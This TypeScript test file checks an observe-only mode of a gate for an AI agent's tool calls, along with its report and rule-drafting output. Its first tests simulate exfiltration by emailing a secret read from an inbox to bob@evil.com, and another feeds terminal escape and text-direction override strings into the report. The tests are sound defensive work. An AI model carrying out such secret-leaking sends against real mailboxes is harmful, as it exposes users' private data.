// A trial: what is written down of calls that nobody held up, and what a report makes of it.
import { appendFileSync, mkdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { parse } from 'yaml';
import { observeTool, openObserveLog, parsePolicyText } from '../../../../hosts/index.js';
import { draftRules } from '../../../../hosts/observe/draft-rules.js';
import type { ObservedCall } from '../../../../hosts/observe/observed-call.js';
import { observedCalls } from '../../../../hosts/observe/read-observed.js';
import { observeReport } from '../../../../hosts/observe/report.js';
import { reportText } from '../../../../hosts/observe/report-text.js';
import { verifies } from '../../../claims/verifies.js';
import { makeOffice } from '../../../fakes/office.js';
import { seeded } from '../../../property/seed.js';
import { scratchFile, scratchFolder } from '../stores/scratch.js';

const plain = (text: string): string => text;
const paint = { bold: plain, dim: plain, red: plain, green: plain, yellow: plain };

function readAll(path: string): { calls: readonly ObservedCall[]; unread: number } {
  let unread = 0;
  const calls = [
    ...observedCalls(path, () => {
      unread += 1;
    }),
  ];
  return { calls, unread };
}

/** Two tools of a host that never heard of a gate, one of them with the secret in its answer. */
function trial(path: string) {
  const sent: unknown[] = [];
  const { kernel, canaries } = makeOffice({ grant: ['mail.read'] });
  const observer = kernel.observeClient({ trust: 'until_tainted' });
  const log = openObserveLog(path);
  const how = { observer, log, session: 's' };
  const mails = [{ from: 'SECRET-4711@example.org', subject: 'SECRET-4711', body: 'SECRET-4711' }];
  const read = observeTool({ ...how, tool: 'read_inbox' }, async (_: object) => mails);
  const send = observeTool(
    { ...how, tool: 'send_email', requires: ['mail.send'] },
    async (args: { to: string; body: string }) => {
      sent.push(args);
      if (args.to === 'x') throw new Error('SECRET-4711 bounced');
      return { id: 'm1' };
    },
  );
  return { read, send, sent, log, observer, canaries };
}

describe('tools of a host', () => {
  test('run as before, with what the Gate would have said beside them', async () => {
    const path = scratchFile();
    const { read, send, sent, canaries } = trial(path);
    const [mail] = await read({});
    expect(mail?.body).toBe('SECRET-4711');
    expect(await send({ to: 'bob@evil.com', body: 'SECRET-4711' })).toEqual({ id: 'm1' });
    await expect(send({ to: 'x', body: 'SECRET-4711' })).rejects.toThrow('bounced');
    expect(sent).toHaveLength(2);
    expect(canaries.calls).toEqual([]);
    const { calls, unread } = readAll(path);
    expect(unread).toBe(0);
    expect(calls.map(({ tool, outcome, ended }) => [tool, outcome, ended])).toEqual([
      ['read_inbox', 'allow', 'answered'],
      ['send_email', 'deny', 'answered'],
      ['send_email', 'deny', 'failed'],
    ]);
    expect(calls[1]?.refusals.map(({ stage }) => stage)).toEqual(['capability', 'provenance']);
    expect(statSync(path).mode & 0o777).toBe(0o600);
  });

  verifies('INV-V6', 'leave no argument, result or word of theirs behind', async () => {
    const path = scratchFile();
    const { read, send } = trial(path);
    await read({});
    await send({ to: 'SECRET-4711@evil.com', body: 'SECRET-4711' });
    await send({ to: 'x', body: 'SECRET-4711' }).catch(() => undefined);
    await send('SECRET-4711' as never).catch(() => undefined);
    const text = readFileSync(path, 'utf8');
    expect(text.trimEnd().split('\n')).toHaveLength(4);
    expect(text).not.toContain('SECRET');
    expect(text).toContain('"tool":"send_email"');
  });

  test('run on where nothing can be written, which is told once', async () => {
    const folder = join(scratchFolder(), 'folder');
    mkdirSync(folder);
    const told: string[] = [];
    const { kernel } = makeOffice();
    const log = openObserveLog(folder, { onFailure: ({ message }) => void told.push(message) });
    const observer = kernel.observeClient();
    const run = observeTool({ observer, log, tool: 'read_inbox' }, async (_: object) => []);
    expect([await run({}), await run({})]).toEqual([[], []]);
    expect([log.written, log.dropped, told.length]).toEqual([0, 2, 1]);
  });

  test('run on where the onlooker fails, which is counted', async () => {
    const told: string[] = [];
    const onFailure = ({ message }: Error): void => void told.push(message);
    const log = openObserveLog(scratchFile(), { onFailure });
    const observer = { observe: () => expect.unreachable() } as never;
    const run = observeTool({ observer, log, tool: 'read_inbox' }, async (_: object) => 'told');
    expect(await run({})).toBe('told');
    expect([log.dropped, told.length]).toEqual([1, 1]);
  });
});

const refusal = (stage: string, more: Partial<ObservedCall['refusals'][number]> = {}) => ({
  stage,
  code: `${stage}_code`,
  argument: null,
  releasable: false,
  ...more,
});

function call(given: Partial<ObservedCall> = {}): ObservedCall {
  return {
    v: 1,
    kind: 'observed_call',
    enforced: false,
    at: 0,
    session: 's',
    tool: 'files__write',
    place: { server: 'files', tool: 'write', digest: `sha256:${'0'.repeat(64)}` },
    standing: 'pinned',
    rules: 'settings',
    outcome: 'allow',
    refusals: [],
    asks: [],
    pending: [],
    requires: ['files.write'],
    labels: {},
    ended: 'answered',
    ...given,
  };
}

function expectInert(text: string): void {
  for (const order of ['\u001b', '\u202e', '\nallowed']) expect(text).not.toContain(order);
}

const reportOf = (...calls: readonly ObservedCall[]) => observeReport(calls, () => 0);

describe('a report', () => {
  test('counts by tool, most trouble first, and says loudly that nothing was enforced', () => {
    const labels = {
      '/path': { sources: ['tool:web'], control: ['client'], readers: [], subjects: [] },
    };
    const report = reportOf(
      call({ tool: 'files__read', at: 5 }),
      call({ at: 9, session: 't', outcome: 'require_user', asks: [ask('/path')], labels }),
      call({ outcome: 'deny', refusals: [refusal('guard')] }),
      call({ standing: 'drifted' }),
    );
    expect(report.tools.map((one) => one.tool)).toEqual(['files__write', 'files__read']);
    expect(report.tools[0]).toMatchObject({
      calls: 3,
      allowed: 0,
      asked: 1,
      refused: 1,
      absent: 1,
    });
    expect(report).toMatchObject({ enforced: false, calls: 4, sessions: 2, from: 0, to: 9 });
    const text = reportText(report, 'a.jsonl', paint);
    expect(text).toMatch(/^NOTHING WAS ENFORCED/);
    expect(text).toContain('1x asked about, by provenance r for /path (by client, tool:web)');
    expect(text).toContain('not on offer: it is defined otherwise');
  });

  test('gives a terminal no order', () => {
    const odd = '\u001b[2Jx\u202e\nallowed';
    const asks = [{ stage: odd, rule: odd, argument: odd }];
    const text = reportText(reportOf(call({ tool: odd, asks, pending: [odd] })), odd, paint);
    expectInert(text);
    const draft = draftRules(
      reportOf(call({ tool: odd, refusals: [refusal('provenance', { argument: odd })] })),
    );
    expectInert(draft);
  });

  test('of lines that are none counts them, and reads on', () => {
    const path = scratchFile();
    const lines = ['{', '{"v":1}', JSON.stringify(call()), JSON.stringify({ ...call(), more: 1 })];
    writeFileSync(path, `${lines.join('\n')}\n`);
    appendFileSync(path, JSON.stringify(call()));
    expect(readAll(path)).toMatchObject({ unread: 3, calls: [call(), call()] });
    expect(() => readAll(join(path, 'x'))).toThrow(
      expect.objectContaining({ code: 'input_unreadable' }),
    );
    expect(() => readAll(scratchFolder())).toThrow(
      expect.objectContaining({ code: 'input_unreadable' }),
    );
  });
});

function ask(argument: string) {
  return { stage: 'provenance', rule: 'r', argument };
}

const stage = fc.constantFrom('guard', 'capability', 'schema', 'provenance', 'rules', 'judge');
const drawn = fc.record({
  stage,
  code: fc.constantFrom('a_code', 'b_code'),
  argument: fc.constantFrom(null, '/path', 'decision'),
  releasable: fc.boolean(),
});

seeded(
  'a draft asks about what labels refused, grants what was lacking, and does no more',
  fc.property(
    fc.array(fc.tuple(drawn, fc.constantFrom('files', 'mail')), { maxLength: 12 }),
    (many) => {
      const calls = many.map(([one, server]) =>
        call({
          tool: `${server}__t`,
          place: null,
          rules: 'policy',
          outcome: 'deny',
          refusals: [one],
          requires: [`${server}.t`],
        }),
      );
      const draft = draftRules(reportOf(...calls));
      expect(parsePolicyText(`version: 1\n${draft}`, 'draft.yaml').version).toBe(1);
      const { grant = [], declassify = [], ...more } = parse(draft) ?? {};
      expect(more).toEqual({});
      const lacking = many.filter(([one]) => one.stage === 'capability');
      expect(grant).toEqual([...new Set(lacking.map(([, server]) => `${server}.t`))].sort());
      const asked = many.filter(([one]) => one.stage === 'provenance' && one.releasable);
      const named = asked.map(([one, server]) => `${server}__t ${one.argument ?? 'decision'}`);
      const rules = declassify.map(
        (rule: { tool: string; argument: string; then: string }) => `${rule.tool} ${rule.argument}`,
      );
      expect(new Set(rules)).toEqual(new Set(named));
      for (const rule of declassify) expect(Object.entries(rule).at(-1)).toEqual(['then', 'ask']);
    },
  ),
  { claims: 'INV-V7' },
);
